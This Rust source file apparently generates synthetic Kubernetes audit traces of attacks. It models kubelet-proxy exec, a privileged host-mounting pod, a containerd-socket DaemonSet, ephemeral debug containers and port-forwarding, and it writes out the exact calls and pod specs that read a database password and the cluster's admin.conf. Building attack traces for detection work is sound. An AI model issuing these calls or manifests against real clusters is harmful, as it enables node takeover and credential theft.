//! Taking pods and nodes: through the kubelet, by privilege, by a debugging container, by a forwarded port.

use super::Raid;
use super::secret::{CURL, KUBECTL};
use crate::generate::call::{Call, DAEMONSETS, NODES, Outcome, PODS};
use crate::generate::cluster::{MINUTE, SECOND};

pub(super) fn node_proxy_exec(raid: &mut Raid) {
    let cluster = raid.scene.cluster;
    let inside = raid.token("monitoring", "prometheus").using(CURL);
    let pod = cluster.pod(cluster.slot("payments", "ledger"), raid.scene.at);
    let node = &cluster.nodes[pod.node].name;
    raid.noise("lists the nodes", &inside, &Call::new("list", &NODES).query("limit=500"));
    let proxy = |verb| Call::new(verb, &NODES).named(node).sub("proxy").open(SECOND / 10);
    raid.step("lists a node's pods through its kubelet", &inside, &proxy("get").rest("/pods"));
    let path = format!("/exec/payments/{}/ledger", pod.name);
    let call = proxy("get").rest(&path).query("command=cat&command=%2Fetc%2Fsecret%2Fledger-db%2Fpassword&output=1");
    raid.step("runs a command through the kubelet", &inside, &call.outcome(Outcome::Upgraded));
    let path = format!("/run/payments/{}/ledger", pod.name);
    let call = proxy("create").rest(&path).query("cmd=env");
    raid.step("runs another", &inside, &call);
}

pub(super) fn privileged(raid: &mut Raid) {
    let thief = raid.taken(raid.person(0), KUBECTL);
    let pod = r#"{"kind":"Pod","apiVersion":"v1","metadata":{"name":"node-check","namespace":"default"},"spec":{"volumes":[{"name":"host","hostPath":{"path":"/","type":""}}],"containers":[{"name":"node-check","image":"docker.io/library/alpine:3.22","command":["sleep","86400"],"resources":{},"volumeMounts":[{"name":"host","mountPath":"/host"}],"imagePullPolicy":"IfNotPresent","securityContext":{"privileged":true}}],"restartPolicy":"Never","nodeName":"control-01","hostNetwork":true,"hostPID":true,"hostIPC":true,"tolerations":[{"operator":"Exists"}]},"status":{}}"#;
    let call = Call::new("create", &PODS).within("default").named("node-check").query("fieldManager=kubectl-run");
    let call = call.annotation("pod-security.kubernetes.io/enforce-policy", "privileged:latest");
    raid.step("creates a pod that owns its node", &thief, &call.body(pod));
    let query = "command=chroot&command=%2Fhost&command=cat&command=%2Fetc%2Fkubernetes%2Fadmin.conf&container=node-check&stderr=true&stdout=true";
    let call = Call::new("get", &PODS).within("default").named("node-check").sub("exec").query(query);
    raid.step("reads the node's files with exec", &thief, &call.outcome(Outcome::Upgraded).open(2 * SECOND));
    let agent = r#"{"kind":"DaemonSet","apiVersion":"apps/v1","metadata":{"name":"kube-telemetry","namespace":"kube-system"},"spec":{"selector":{"matchLabels":{"app":"kube-telemetry"}},"template":{"metadata":{"labels":{"app":"kube-telemetry"}},"spec":{"volumes":[{"name":"sock","hostPath":{"path":"/run/containerd/containerd.sock","type":"Socket"}}],"containers":[{"name":"agent","image":"ghcr.example.net/telemetry/agent:latest","resources":{},"volumeMounts":[{"name":"sock","mountPath":"/run/containerd/containerd.sock"}],"securityContext":{"privileged":true}}],"restartPolicy":"Always","hostPID":true,"tolerations":[{"operator":"Exists"}]}}}}"#;
    let call = Call::new("create", &DAEMONSETS).within("kube-system").named("kube-telemetry");
    raid.step("puts a privileged agent on every node", &thief, &call.query("fieldManager=kubectl-create").body(agent));
}

pub(super) fn ephemeral_container(raid: &mut Raid) {
    let thief = raid.taken(raid.person(1), KUBECTL);
    let cluster = raid.scene.cluster;
    let pod = cluster.pod(cluster.slot("shop", "cart"), raid.scene.at);
    raid.noise("reads the pod", &thief, &Call::new("get", &PODS).within("shop").named(&pod.name));
    let patch = r#"{"spec":{"ephemeralContainers":[{"name":"debugger-x8k2p","image":"docker.io/nicolaka/netshoot","resources":{},"stdin":true,"tty":true,"targetContainerName":"cart","terminationMessagePolicy":"File","imagePullPolicy":"IfNotPresent"}]}}"#;
    let call = Call::new("patch", &PODS).within("shop").named(&pod.name).sub("ephemeralcontainers");
    raid.step("puts a debugging container into the pod", &thief, &call.bodies(patch, ""));
    let query = "container=debugger-x8k2p&stdin=true&stdout=true&tty=true";
    let call = Call::new("get", &PODS).within("shop").named(&pod.name).sub("attach").query(query);
    raid.step("attaches to it", &thief, &call.outcome(Outcome::Upgraded).open(3 * MINUTE));
}

pub(super) fn port_forward(raid: &mut Raid) {
    let person = raid
        .person(3)
        .clone()
        .allowed(r#"RBAC: allowed by RoleBinding "developers-debug/data" of ClusterRole "edit" to Group "developers""#);
    let thief = raid.taken(&person, KUBECTL);
    raid.noise("lists the pods", &thief, &Call::new("list", &PODS).within("data").query("limit=500"));
    let call = Call::new("get", &PODS).within("data").named("postgres-0").sub("portforward").query("ports=5432");
    raid.step("forwards the database's port", &thief, &call.outcome(Outcome::Upgraded).open(7 * MINUTE));
}
